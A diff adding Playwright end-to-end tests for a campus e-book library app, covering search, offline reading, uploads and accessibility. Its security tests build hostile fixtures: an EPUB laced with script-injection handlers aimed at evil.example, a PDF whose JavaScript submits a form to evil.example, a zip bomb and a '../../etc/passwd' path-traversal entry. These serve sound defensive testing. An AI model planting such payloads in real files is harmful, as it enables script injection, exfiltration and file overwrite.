@@ -1,0 +1,368 @@
+import { readFile } from 'node:fs/promises'
+import type { Page } from '@playwright/test'
+import { zip } from '#server/testing/books/zip.ts'
+import { expect, expectAccessible, signIn, test } from './campus.ts'
+import { cutLine } from './cut-line.ts'
+
+const shelf = (page: Page) => page.locator('.shelf').getByRole('listitem')
+
+async function openBook(page: Page, title: string | RegExp): Promise<string> {
+  await page.getByRole('heading', { level: 3 }).getByRole('link', { name: title }).click()
+  await expect(page.getByRole('dialog').getByRole('heading', { level: 2, name: title })).toBeVisible()
+  return new URL(page.url()).pathname.split('/')[2] ?? ''
+}
+
+/** Once the service worker stands between this page and the network. */
+const workerStands = (page: Page) =>
+  page.waitForFunction(() => navigator.serviceWorker.controller !== null, null, { timeout: 20_000 })
+
+test('a visitor searches with and without tone marks, narrows, and comes back to the shelf', async ({
+  page,
+}) => {
+  await page.goto('/books')
+  await expect(page.getByRole('heading', { name: /^All Books \(18\)$/ })).toBeVisible()
+  await expect(shelf(page)).toHaveCount(12)
+  await page.getByRole('link', { name: 'Load More Books' }).click()
+  await expect(shelf(page)).toHaveCount(18)
+
+  const search = page.getByRole('searchbox').locator('visible=true')
+  await search.fill('eko yoruba')
+  await search.press('Enter')
+  await expect(page.getByRole('heading', { name: 'Search Results (1)' })).toBeVisible()
+  await openBook(page, /Yorùbá/)
+  await page.keyboard.press('Escape')
+  await expect(page.getByRole('heading', { name: 'Search Results (1)' })).toBeVisible()
+  await expect(page).toHaveURL(/\/books\?search=eko/)
+
+  await page.goto('/books?search=nothing+of+the+kind')
+  await expect(page.getByText('No books found')).toBeVisible()
+  await page.goto('/books')
+  await page.getByLabel('Department').selectOption('Law')
+  await expect(page).toHaveURL(/department=Law/)
+  await expect(page.getByRole('heading', { name: /^All Books \(2\)$/ })).toBeVisible()
+})
+
+test('a member rates a book once and for good', async ({ page }) => {
+  await signIn(page, 'student')
+  const { items } = (await (await page.request.get('/api/books')).json()) as { items: { id: string }[] }
+  const ratings = await Promise.all(
+    items.map(async ({ id }) => (await (await page.request.get(`/api/books/${id}/rating`)).json()).rating),
+  )
+  await page.goto(`/books/${items[ratings.indexOf(null)]?.id}`)
+  const dialog = page.getByRole('dialog')
+  await expect(dialog.getByText(/Your rating|You rated this book/).first()).toBeVisible()
+  await dialog.locator('label', { hasText: '4 of 5' }).click()
+  await dialog.getByRole('button', { name: 'Give 4 stars' }).click()
+  await expect(page.getByText('Thank you for your rating!').first()).toBeAttached()
+  await expect(dialog.getByText('You rated this book')).toBeVisible()
+  await page.reload()
+  await expect(dialog.getByText('You rated this book')).toBeVisible()
+})
+
+test('a download over a line that is cut goes on where it broke, and the book stays on the phone', async ({
+  page,
+  campus,
+}) => {
+  const line = await cutLine(campus.url, '/files/')
+  try {
+    await page.goto(`${line.url}/books?search=data+structures`)
+    const id = await openBook(page, /Data Structures/)
+    const { file } = (await (await page.request.get(`${campus.url}/api/books/${id}`)).json()) as {
+      file: { id: string; name: string; bytes: number }
+    }
+    const download = page.getByRole('dialog').getByRole('link', { name: /^Download/ })
+    await expect(download).toContainText('EPUB')
+    line.asked.length = 0
+    line.cutAfter(9_000, 6_000)
+    const saved = page.waitForEvent('download')
+    await download.click()
+    const got = await saved
+    expect(got.suggestedFilename()).toBe(file.name)
+    const whole = await (
+      await page.request.get(`${campus.url}/files/${file.id}/${encodeURIComponent(file.name)}`)
+    ).body()
+    expect(whole).toHaveLength(file.bytes)
+    expect(whole.equals(await readFile(await got.path()))).toBe(true)
+
+    const ranges = line.asked.filter(({ url }) => url.includes(file.id)).map(({ range }) => range)
+    expect(ranges[0]).toBeUndefined()
+    expect(ranges.length).toBeGreaterThan(1)
+    for (const range of ranges.slice(1)) expect(range).toMatch(/^bytes=[1-9]\d*-$/)
+    await expect(page.getByText('Download completed!').first()).toBeAttached()
+    await expect(page.getByRole('dialog').getByText('On this phone')).toBeVisible()
+    await page.getByRole('link', { name: 'Close' }).click()
+    await expect(shelf(page).getByText('On this phone')).toBeVisible()
+  } finally {
+    await line.close()
+  }
+})
+
+test('a book is read, read on without a network, and found at its place again, here and on another device', async ({
+  page,
+  context,
+  browser,
+  campus,
+}) => {
+  test.setTimeout(90_000)
+  await signIn(page, 'student')
+  await page.goto('/books?search=data+structures')
+  await workerStands(page)
+  const id = await openBook(page, /Data Structures/)
+  await page.getByRole('link', { name: /^Read/ }).click()
+  const where = page.getByRole('contentinfo').or(page.locator('.reader-foot')).getByRole('status')
+  await expect(where).toContainText('1 of')
+  await page.keyboard.press('ArrowRight')
+  await expect(where).toContainText('2 of')
+  // Over the end of the chapter into the next.
+  const first = await where.textContent()
+  await page.getByRole('button', { name: 'Next page' }).click()
+  await expect(where).not.toHaveText(first ?? '')
+
+  await context.setOffline(true)
+  await page.getByRole('button', { name: 'Next page' }).click()
+  const offline = await where.textContent()
+  expect(offline).not.toBe(first)
+  await page.reload()
+  await expect(where).toHaveText(offline ?? '')
+
+  const kept = page.waitForResponse(
+    (reply) => reply.url().endsWith(`/api/books/${id}/place`) && reply.request().method() === 'PUT',
+  )
+  await context.setOffline(false)
+  expect((await kept).ok()).toBe(true)
+
+  const other = await browser.newContext({ baseURL: campus.url, viewport: { width: 360, height: 800 } })
+  const elsewhere = await other.newPage()
+  await signIn(elsewhere, 'student')
+  await elsewhere.goto(`/books/${id}/read`)
+  await expect(elsewhere.locator('.reader-foot').getByRole('status')).toHaveText(offline ?? '')
+  await other.close()
+})
+
+test('a PDF opens, turns, grows, darkens, and opens again without a network', async ({ page, context }) => {
+  await page.goto('/books?search=phy+101')
+  await workerStands(page)
+  await openBook(page, /PHY 101/)
+  const read = page.getByRole('link', { name: /^Read/ })
+  await read.click()
+  const where = page.locator('.reader-foot').getByRole('status')
+  await expect(where).toHaveText('Page 1 of 4')
+  await expect(page.getByText('Units and motion').first()).toBeAttached()
+  await page.getByRole('button', { name: 'Next page' }).click()
+  await expect(where).toHaveText('Page 2 of 4')
+
+  await page.getByRole('button', { name: 'Contents' }).click()
+  await page.getByRole('dialog').getByRole('button', { name: 'Forces' }).click()
+  await expect(where).toHaveText('Page 3 of 4')
+  await page.getByRole('button', { name: 'Text and paper' }).click()
+  const width = () =>
+    page
+      .locator('.pdf-page')
+      .first()
+      .evaluate((one) => one.clientWidth)
+  const before = await width()
+  await page.getByRole('button', { name: 'Larger' }).click()
+  await expect.poll(width).toBeGreaterThan(before)
+  await page.getByText('Dark paper').click()
+  await expect(page.locator('.reader')).toHaveAttribute('data-theme', 'dark')
+  await expect(page.getByRole('dialog').getByText('On this phone')).toBeVisible()
+  await page.keyboard.press('Escape')
+  await expect(where).toHaveText('Page 3 of 4')
+
+  await page.waitForFunction(async () => {
+    const names = (await (await caches.open('assets')).keys()).map(({ url }) => url)
+    return names.some((name) => name.includes('pdf.worker'))
+  })
+  await context.setOffline(true)
+  await page.reload()
+  await expect(where).toHaveText('Page 3 of 4')
+  await expect(page.getByText('Forces').first()).toBeAttached()
+  await context.setOffline(false)
+})
+
+test('a MOBI opens in pages too', async ({ page }) => {
+  await page.goto('/books?search=workshop+practice')
+  await openBook(page, /Workshop Practice/)
+  await page.getByRole('link', { name: /^Read/ }).click()
+  await expect(page.locator('.reader-foot').getByRole('status')).toContainText('1 of')
+  await expect(page.locator('.flow-page')).toContainText(/\w{4}/)
+})
+
+const epub = (chapter: string, more: { name: string; content: string }[] = []) =>
+  Buffer.from(
+    zip([
+      { name: 'mimetype', content: 'application/epub+zip', stored: true },
+      {
+        name: 'META-INF/container.xml',
+        content:
+          '<container xmlns="urn:oasis:names:tc:opendocument:xmlns:container"><rootfiles><rootfile full-path="b.opf" media-type="application/oebps-package+xml"/></rootfiles></container>',
+      },
+      {
+        name: 'b.opf',
+        content:
+          '<package xmlns="http://www.idpf.org/2007/opf" xmlns:dc="http://purl.org/dc/elements/1.1/"><metadata><dc:title>A trap</dc:title><dc:creator>Nobody</dc:creator></metadata><manifest><item id="a" href="a.xhtml" media-type="application/xhtml+xml"/></manifest><spine><itemref idref="a"/></spine></package>',
+      },
+      { name: 'a.xhtml', content: chapter },
+      ...more,
+    ]),
+  )
+
+const pdfWithScript = Buffer.from(
+  [
+    '%PDF-1.4',
+    '1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert\\("caught"\\); this.submitForm\\("https://evil.example"\\))>>>>endobj',
+    '2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj',
+    '3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 400]/Annots[4 0 R]>>endobj',
+    '4 0 obj<</Type/Annot/Subtype/Link/Rect[0 0 300 400]/A<</S/URI/URI(javascript:window.caught=1)>>>>endobj',
+    'trailer<</Root 1 0 R>>',
+    '%%EOF',
+    '',
+  ].join('\n'),
+)
+
+async function addBook(page: Page, name: string, buffer: Buffer, title: string): Promise<void> {
+  await page.goto('/add-books')
+  await page.getByLabel('Book file').setInputFiles({ name, mimeType: 'application/octet-stream', buffer })
+  await expect(page.getByText(name)).toBeVisible()
+  await page.getByRole('textbox', { name: 'Title' }).fill(title)
+  await page.getByLabel('Description').fill('It does not do what it says.')
+  await page.getByRole('button', { name: 'Upload Book' }).click()
+  await expect(page.getByRole('dialog').getByRole('heading', { name: title })).toBeVisible()
+}
+
+test('books with scripts in them are read, and nothing of theirs runs or loads', async ({ page }) => {
+  const outside: string[] = []
+  page.on('request', (asking) => {
+    if (/evil\.example/.test(asking.url())) outside.push(asking.url())
+  })
+  page.on('dialog', (dialog) => {
+    outside.push(dialog.message())
+    void dialog.dismiss()
+  })
+  await signIn(page, 'student')
+  const trap = `<html xmlns="http://www.w3.org/1999/xhtml"><head><script>parent.caught = 1</script>
+    <style>body { background: url(https://evil.example/style) }</style></head><body onload="window.caught = 1">
+    <p onclick="window.caught = 1" style="background: url(https://evil.example/p)">Read <b>this</b> and see.</p>
+    <script>window.caught = 1</script><img src="https://evil.example/picture.png" onerror="window.caught = 1"/>
+    <img src="none.png" onerror="window.caught = 1"/><iframe src="https://evil.example/frame"></iframe>
+    <svg xmlns="http://www.w3.org/2000/svg" onload="window.caught = 1"><script>window.caught = 1</script></svg>
+    <a href="javascript:window.caught = 1">follow me</a><object data="https://evil.example/object"/>
+    <form action="https://evil.example/form"><input name="x"/></form></body></html>`
+  await addBook(page, 'trap.epub', epub(trap), 'A trap in paper')
+  await page.getByRole('link', { name: /^Read/ }).click()
+  const text = page.locator('.flow-page')
+  await expect(text).toContainText('Read this and see.')
+  await text.getByText('Read').click()
+  await text.getByText('follow me').click()
+  const left = await text.evaluate(
+    (view) =>
+      view.firstElementChild?.shadowRoot?.querySelectorAll(
+        'script, style, iframe, object, form, input, svg, [onclick], [onerror], [style], a[href]',
+      ).length,
+  )
+  expect(left).toBe(0)
+
+  await addBook(page, 'trap.pdf', pdfWithScript, 'A trap in ink')
+  await page.getByRole('link', { name: /^Read/ }).click()
+  await expect(page.locator('.reader-foot').getByRole('status')).toHaveText('Page 1 of 1')
+  await expect(page.locator('.pdf-page canvas')).toBeVisible()
+  await page.locator('.pdf-page').click({ position: { x: 100, y: 100 } })
+  expect(await page.evaluate(() => 'caught' in window)).toBe(false)
+  expect(outside).toEqual([])
+})
+
+test('files made to harm, and files that are no books, are refused before anything is sent', async ({
+  page,
+}) => {
+  await signIn(page, 'student')
+  await page.goto('/add-books')
+  const page1 = '<html xmlns="http://www.w3.org/1999/xhtml"><body><p>One.</p></body></html>'
+  const refused: [string, Buffer, RegExp][] = [
+    ['bomb.epub', epub(page1, [{ name: 'bomb.txt', content: '0'.repeat(40 * 1024 * 1024) }]), /made to harm/],
+    ['escape.epub', epub(page1, [{ name: '../../etc/passwd', content: 'x' }]), /made to harm/],
+    ['cut.epub', epub(page1).subarray(0, 300), /damaged/],
+    ['photo.pdf', Buffer.from('\xff\xd8\xff a photo', 'latin1'), /Please choose a PDF, EPUB or MOBI file/],
+  ]
+  let sent = 0
+  page.on('request', (asking) => {
+    if (asking.url().includes('/api/uploads')) sent += 1
+  })
+  for (const [name, buffer, reason] of refused) {
+    await page.getByLabel('Book file').setInputFiles({ name, mimeType: 'application/pdf', buffer })
+    await expect(page.getByRole('alert').filter({ hasText: reason }), name).toBeVisible()
+  }
+  await page.getByRole('button', { name: 'Upload Book' }).click()
+  await expect(page.getByText('Please select both thumbnail and book file')).toBeVisible()
+  expect(sent).toBe(0)
+})
+
+test('a book is added without a network, arrives by itself, is caught the second time, edited and removed', async ({
+  page,
+  context,
+}) => {
+  await signIn(page, 'student')
+  await page.goto('/add-books')
+  await workerStands(page)
+  const notes = epub(
+    '<html xmlns="http://www.w3.org/1999/xhtml"><body><h1>Notes</h1><p>Of the year.</p></body></html>',
+  )
+  await page
+    .getByLabel('Book file')
+    .setInputFiles({ name: 'GEO_201 notes.epub', mimeType: '', buffer: notes })
+  await expect(page.getByRole('textbox', { name: 'Title' })).toHaveValue('A trap')
+  await expect(page.getByLabel('Author')).toHaveValue('Nobody')
+  await page.getByRole('textbox', { name: 'Title' }).fill('Rivers of Ekiti')
+  await page.getByLabel('Description').fill('Where they rise and where they go.')
+  await page.getByLabel('Course code').fill('geo201')
+  await page.getByLabel('Level').selectOption('200')
+  await page.getByText('Notes', { exact: true }).click()
+  await expect(page.getByText(/Saved on this phone/)).toBeVisible()
+  await page.reload()
+  await expect(page.getByRole('textbox', { name: 'Title' })).toHaveValue('Rivers of Ekiti')
+  await expect(page.getByText('GEO_201 notes.epub')).toBeVisible()
+
+  await context.setOffline(true)
+  await page.getByRole('button', { name: 'Upload Book' }).click()
+  await expect(page.getByText("Saved locally. Will upload when you're online.").first()).toBeAttached()
+  await context.setOffline(false)
+  await expect(page.getByText('Book uploaded successfully!').first()).toBeAttached({ timeout: 15_000 })
+
+  await page.goto('/add-books')
+  await page.getByLabel('Book file').setInputFiles({ name: 'again.epub', mimeType: '', buffer: notes })
+  const already = page.getByRole('alert').filter({ hasText: 'This book is already in the library' })
+  await already.getByRole('link', { name: 'Rivers of Ekiti' }).click()
+  const dialog = page.getByRole('dialog')
+  await expect(dialog.getByText('GEO 201 · 200 level · Notes')).toBeVisible()
+  await dialog.getByRole('link', { name: 'Edit' }).click()
+  await page.getByRole('textbox', { name: 'Title' }).fill('The Rivers of Ekiti')
+  await page.getByRole('button', { name: 'Save Changes' }).click()
+  await expect(dialog.getByRole('heading', { name: 'The Rivers of Ekiti' })).toBeVisible()
+
+  await dialog.getByRole('link', { name: 'Edit' }).click()
+  await page.getByRole('button', { name: 'Remove from the library' }).click()
+  await expect(page.getByText('Book removed').first()).toBeAttached()
+  await page.goto('/books?search=rivers')
+  await expect(page.getByText('No books found')).toBeVisible()
+})
+
+test('shelf, dialog, reader and form pass axe at 320 and 1280, light and dark', async ({ page }) => {
+  test.setTimeout(150_000)
+  await signIn(page, 'student')
+  await page.goto('/books')
+  await expectAccessible(page)
+  const id = await openBook(page, /Data Structures/)
+  await expectAccessible(page)
+  await page.goto(`/books/${id}/read`)
+  await expect(page.locator('.reader-foot').getByRole('status')).toContainText('1 of')
+  await expectAccessible(page)
+  await page.getByRole('button', { name: 'Text and paper' }).click()
+  await expectAccessible(page)
+  await page.goto('/books?search=phy+101')
+  await openBook(page, /PHY 101/)
+  await page.getByRole('link', { name: /^Read/ }).click()
+  await expect(page.locator('.pdf-page canvas').first()).toBeVisible()
+  await expectAccessible(page)
+  await page.goto('/add-books')
+  await expect(page.getByRole('button', { name: 'Upload Book' })).toBeVisible()
+  await expectAccessible(page)
+})
